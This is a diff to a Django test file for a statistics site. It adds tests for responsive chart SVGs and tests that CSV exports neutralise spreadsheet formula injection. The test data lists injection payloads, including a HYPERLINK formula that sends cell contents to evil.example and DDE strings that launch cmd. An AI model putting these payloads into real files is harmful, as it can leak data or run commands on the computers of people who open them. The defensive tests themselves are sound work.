@@ -15,13 +15,17 @@ import json
 import re
 import warnings
 from decimal import Decimal
+from pathlib import Path
 from xml.etree import ElementTree
 
 import pytest
+from django.conf import settings
 from django.core.cache.backends.base import CacheKeyWarning
 from django.urls import reverse
 
 from news.models import Article
+from stats.models import Indicator
+from stats.views import spreadsheet_cell
 from tests.factories import ArticleFactory
 from tests.stats.factories import (
     IndicatorFactory,
@@ -183,6 +187,7 @@ class TestOverview:
 
 
 def chart_svg(response, kind="yearly"):
+    """The chart's markup: its drawings (wide and narrow), one after the other."""
     match = re.search(
         rf'<section class="stat-series" aria-labelledby="series-{kind}">.*?'
         r'<div class="chart__svg"[^>]*>(.*?)</div>',
@@ -191,6 +196,27 @@ def chart_svg(response, kind="yearly"):
     )
     assert match, f"no {kind} chart"
     return match.group(1)
+
+
+def chart_drawings(response, kind="yearly"):
+    """{class: parsed <svg>} of the chart's drawings."""
+    svgs = re.findall(r"<svg\b.*?</svg>", chart_svg(response, kind), re.DOTALL)
+    roots = [ElementTree.fromstring(svg) for svg in svgs]
+    return {
+        next(c for c in root.get("class").split() if c.startswith("chart-")): root for root in roots
+    }
+
+
+def smallest_text(root):
+    """The smallest font size the drawing's stylesheet gives its labels, titles and
+    values (pygal's tooltip and no-data text are never shown here)."""
+    style = root.find("{http://www.w3.org/2000/svg}defs/{http://www.w3.org/2000/svg}style").text
+    sizes = [
+        float(size)
+        for selector, size in re.findall(r"([^{}]+)\{[^}]*?font-size:([\d.]+)px", style)
+        if "tooltip" not in selector and "no_data" not in selector
+    ]
+    return min(sizes)
 
 
 def table_rows(response, kind="yearly"):
@@ -211,11 +237,37 @@ class TestIndicatorPage:
         response = client.get("/stats/jinguo-daxuanjiang/")
 
         assert response.status_code == 200
-        svg = chart_svg(response)
-        root = ElementTree.fromstring(svg)
-        assert root.tag == "{http://www.w3.org/2000/svg}svg"
-        assert "巾帼大宣讲（年度，单位：场次）" in svg
-        assert "2020年" in svg and "2021年" in svg
+        drawings = chart_drawings(response)
+        assert drawings
+        for root in drawings.values():
+            assert root.tag == "{http://www.w3.org/2000/svg}svg"
+            svg = ElementTree.tostring(root, encoding="unicode")
+            assert "巾帼大宣讲（年度，单位：场次）" in svg
+            assert "2020年" in svg and "2021年" in svg
+
+    def test_the_chart_is_drawn_wide_for_desktops_and_narrow_for_phones(self, client, figures):
+        """A 720-unit drawing squeezed onto a 360-pixel phone printed 6-pixel labels
+        (issue 9): the phone gets its own drawing, whose labels stay at 12 pixels or
+        more in the 328 pixels a 360-pixel screen leaves the page's content."""
+        drawings = chart_drawings(client.get("/stats/jinguo-daxuanjiang/"))
+
+        assert set(drawings) == {"chart-wide", "chart-narrow"}
+        wide, narrow = drawings["chart-wide"], drawings["chart-narrow"]
+        assert wide.get("viewBox").split()[2] == "720"
+        narrow_width = float(narrow.get("viewBox").split()[2])
+        assert smallest_text(narrow) * 328 / narrow_width >= 12
+        # The stylesheet shows the wide drawing only where it is nearly full size.
+        assert smallest_text(wide) * 688 / 720 >= 12
+        stylesheet = (Path(settings.BASE_DIR) / "static/css/site.css").read_text()
+        assert re.search(r"@media \(min-width: 752px\) \{\s*\.chart__svg \.chart-wide", stylesheet)
+
+    def test_the_chart_takes_its_colours_from_the_page(self, client, figures):
+        """Text and bars follow the reader's mode (高对比度 is yellow and white on
+        black): no fixed dark text colour, which was #222 on black."""
+        svg = chart_svg(client.get("/stats/jinguo-daxuanjiang/"))
+
+        assert "currentColor" in svg and "var(--chart-bar" in svg
+        assert not re.search(r"fill:\s*(?:#222|black|#000)\b", svg)
 
     def test_the_chart_has_no_script(self, client, figures):
         svg = chart_svg(client.get("/stats/jinguo-daxuanjiang/"))
@@ -456,3 +508,63 @@ class TestExports:
     def test_a_figure_with_a_comma_or_quote_in_its_name_survives_the_csv(self, client, groups):
         YearlyValueFactory(indicator__group=groups["组织建设"], indicator__name='妇女之家,"示范"')
         assert export_csv_rows(client)[1][2] == '妇女之家,"示范"'
+
+
+class TestCsvExportIsSafeInASpreadsheet:
+    """Excel and WPS run a cell that starts with = + - @ (WPS also ＝＋－＠, and a tab or
+    carriage return before one) as a formula: such text is written with a leading
+    single quote, and numbers stay numbers (issue 9)."""
+
+    FORMULAS = [
+        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+    ]
+
+    @pytest.mark.parametrize("text", FORMULAS)
+    @pytest.mark.parametrize("column", ["group", "indicator", "unit"])
+    def test_text_that_a_spreadsheet_would_run_starts_with_a_quote(self, client, db, text, column):
+        names = {"group": "indicator__group__name", "indicator": "indicator__name",
+                 "unit": "indicator__unit"}  # fmt: skip
+        if column == "unit":
+            text = text[:10]  # the longest unit there is room for
+        value = YearlyValueFactory(**{names[column]: text})
+        indicator = Indicator.objects.select_related("group").get(pk=value.indicator_id)
+        stored = {"group": indicator.group.name, "indicator": indicator.name,
+                  "unit": indicator.unit}[column]  # fmt: skip
+
+        row = dict(zip(EXPORT_HEADER, export_csv_rows(client)[1], strict=True))
+
+        assert row[column] == "'" + stored
+        data = json.loads(client.get(reverse("stats:export_json")).content)
+        assert data["values"][0][column] == stored, "JSON is for programs: written as is"
+
+    @pytest.mark.parametrize("text", ["巾帼大宣讲", "1+1", "a=b", "“领头雁”培训", "'引号"])
+    def test_other_text_is_written_as_it_is(self, client, db, text):
+        YearlyValueFactory(indicator__name=text)
+
+        assert export_csv_rows(client)[1][2] == text
+
+    @pytest.mark.parametrize(
+        ("value", "written"), [(Decimal("713.5"), "713.5"), (580000, "580000"), (0, "0")]
+    )
+    def test_numbers_stay_numbers(self, client, db, value, written):
+        YearlyValueFactory(value=value, year=2021)
+
+        row = dict(zip(EXPORT_HEADER, export_csv_rows(client)[1], strict=True))
+
+        assert (row["year"], row["value"]) == ("2021", written)
+
+    @pytest.mark.parametrize(
+        ("number", "written"), [(-3, "-3"), (Decimal("-3.00"), "-3"), (Decimal("-0.50"), "-0.5")]
+    )
+    def test_a_negative_number_is_written_as_a_number(self, number, written):
+        """The database holds no negative figure; the rule still keeps -3 a number."""
+        assert spreadsheet_cell(number) == written
